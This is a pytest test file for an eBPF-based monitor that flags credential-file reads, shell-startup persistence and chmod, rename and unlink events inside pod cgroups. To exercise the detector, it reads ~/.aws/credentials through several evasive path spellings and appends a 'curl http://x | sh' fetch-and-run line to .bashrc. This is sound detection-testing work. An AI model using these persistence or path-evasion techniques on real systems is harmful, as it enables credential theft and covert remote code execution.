"""Resolved paths, the sensitive verdict on them, file.write and the file-change events,
from real processes in a kubelet-shaped pod cgroup (the collector is real bcc)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from streams.events import Envelope

pytestmark = pytest.mark.root


def _python(code: str) -> list[str]:
    return [sys.executable, "-c", code]


def _mine(out: list[Envelope], pid: int, kind: str) -> list[Envelope]:
    return [e for e in out if e.kind == kind and e.proc is not None and e.proc.pid == pid]


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home folder with credentials an agent should not read."""
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("[default]\naws_access_key_id=AKIA...\n")
    (home / ".netrc").write_text("machine example.com login a password b\n")
    (home / ".bash_history").write_text("export TOKEN=abc\n")
    (home / ".bashrc").write_text("# rc\n")
    return home


def test_relative_and_odd_spellings_of_a_credential_read_are_resolved(kernel, home) -> None:
    creds = str(home / ".aws" / "credentials")
    pod = kernel.pod("coder", "agents")
    code = f"""
import os
home = {str(home)!r}
os.chdir(home)
open(".aws/credentials").read()                      # relative to the cwd
d = os.open(".aws", os.O_RDONLY | os.O_DIRECTORY)     # grep -r: openat(dirfd, name)
os.close(os.open("credentials", os.O_RDONLY, dir_fd=d))
open("/" + home + "//.aws/./credentials").read()      # // and /./
open("/proc/self/root" + home + "/.aws/../.aws/credentials").read()
open("/proc/self/cwd/.aws/credentials").read()
pid = os.fork()                                       # a child without exec
if pid == 0:
    open("./.aws/credentials").read()
    os._exit(0)
os.waitpid(pid, 0)
print(os.getpid(), pid)
"""
    run = pod.run(_python(code), capture_output=True, text=True)
    parent, child = map(int, run.stdout.split())
    kernel.collector.flush()
    opens = [e for e in _mine(kernel.out, parent, "file.open")
             if e.data.get("raw_path", e.data["path"]).endswith("credentials")]
    raws = {e.data.get("raw_path", e.data["path"]) for e in opens}
    assert {".aws/credentials", "credentials", "/proc/self/cwd/.aws/credentials"} <= raws
    assert len(raws) == 5, raws  # identical spellings in one window fold (dedup)
    for e in opens:
        assert e.data["path"] == creds, e.data
        assert e.data["sensitive"] == {"rule": "cloud-credentials-file", "level": "high",
                                       "class": "cloud"}
        assert e.data["access"] == "read"
    (by_dirfd,) = [e for e in opens if e.data["raw_path"] == "credentials"]
    assert by_dirfd.data["dirfd"] >= 0
    (in_child,) = [e for e in _mine(kernel.out, child, "file.open")
                   if e.data["path"] == creds]
    assert in_child.data["raw_path"] == "./.aws/credentials"
    assert in_child.pod is not None and in_child.pod.uid == pod.uid
    assert not _mine(kernel.out, parent, "file.write")


def test_new_sensitive_classes_and_read_versus_write(kernel, home) -> None:
    pod = kernel.pod()
    code = f"""
import os
home = {str(home)!r}
open(home + "/.netrc").read()
open(home + "/.bash_history").read()
open(home + "/.bashrc").read()                 # every shell reads it: not a fact
with open(home + "/.bashrc", "a") as fh:       # a change is persistence
    fh.write("curl http://x | sh\\n")
print(os.getpid())
"""
    pid = int(pod.run(_python(code), capture_output=True, text=True).stdout.split()[-1])
    kernel.collector.flush()
    opens = {(e.data["path"], e.data["access"]): e.data
             for e in _mine(kernel.out, pid, "file.open")}
    assert opens[(str(home / ".netrc"), "read")]["sensitive"]["class"] == "credential"
    assert opens[(str(home / ".bash_history"), "read")]["sensitive"]["class"] == "history"
    assert "sensitive" not in opens[(str(home / ".bashrc"), "read")]
    rc_write = opens[(str(home / ".bashrc"), "write")]["sensitive"]
    assert rc_write == {"rule": "shell-startup", "level": "medium", "class": "persistence"}
    (write,) = _mine(kernel.out, pid, "file.write")
    assert write.data["path"] == str(home / ".bashrc")
    assert write.data["sensitive"]["class"] == "persistence" and write.data["via"] == "open"
    assert write.pod is not None and write.pod.uid == pod.uid


def test_unlink_rename_chmod_chown(kernel, tmp_path: Path) -> None:
    pod = kernel.pod()
    code = f"""
import os
os.chdir({str(tmp_path)!r})
with open("dl.sh", "w") as fh:
    fh.write("#!/bin/sh\\necho hi\\n")
os.chmod("dl.sh", 0o755)                              # chmod +x of a downloaded file
os.rename("dl.sh", "run.sh")
os.chown("run.sh", 1234, -1)
fd = os.open("run.sh", os.O_RDONLY)
os.fchmod(fd, 0o700)
os.close(fd)
os.unlink("run.sh")
try:
    os.unlink("missing")
except OSError:
    pass
print(os.getpid())
"""
    pid = int(pod.run(_python(code), capture_output=True, text=True).stdout.split()[-1])
    kernel.collector.flush()
    dl, run = str(tmp_path / "dl.sh"), str(tmp_path / "run.sh")
    (chmod, fchmod) = _mine(kernel.out, pid, "file.chmod")
    assert chmod.data["path"] == dl and chmod.data["raw_path"] == "dl.sh"
    assert chmod.data["mode"] == 0o755 and chmod.data["mode_text"] == "0755"
    assert chmod.data["exec_bit_added"] is True
    assert chmod.data["mode_before"] & 0o111 == 0  # known from the O_CREAT open
    assert fchmod.data["path"] == run and fchmod.data["fd"] >= 0
    assert fchmod.data["exec_bit_added"] is False and fchmod.data["mode_before"] == 0o755
    (rename,) = _mine(kernel.out, pid, "file.rename")
    assert rename.data["path"] == dl and rename.data["new_path"] == run
    assert rename.data["result"] == 0
    (chown,) = _mine(kernel.out, pid, "file.chown")
    assert chown.data["path"] == run and chown.data["uid"] == 1234 and chown.data["gid"] == -1
    unlinks = {e.data["path"]: e.data for e in _mine(kernel.out, pid, "file.unlink")}
    assert unlinks[run]["result"] == 0
    assert unlinks[str(tmp_path / "missing")]["error"] == "ENOENT"
    assert all(e.pod is not None and e.pod.uid == pod.uid
               for e in kernel.out if e.proc is not None and e.proc.pid == pid)


def test_host_file_changes_are_not_reported(kernel, tmp_path: Path) -> None:
    target = tmp_path / "host.txt"
    code = (f"import os\nopen({str(target)!r}, 'w').close()\nos.chmod({str(target)!r}, 0o755)"
            f"\nos.unlink({str(target)!r})\nprint(os.getpid())")
    proc = subprocess.run(_python(code), check=True, capture_output=True, text=True)
    pid = int(proc.stdout.split()[-1])
    pod = kernel.pod()
    pod.run(["/bin/true"])
    assert kernel.wait_for(lambda e: e.kind == "process.exec" and e.pod.uid == pod.uid)
    assert not [e for e in kernel.out if e.proc is not None and e.proc.pid == pid]
    assert os.getpid() not in {e.proc.pid for e in kernel.out if e.proc is not None}
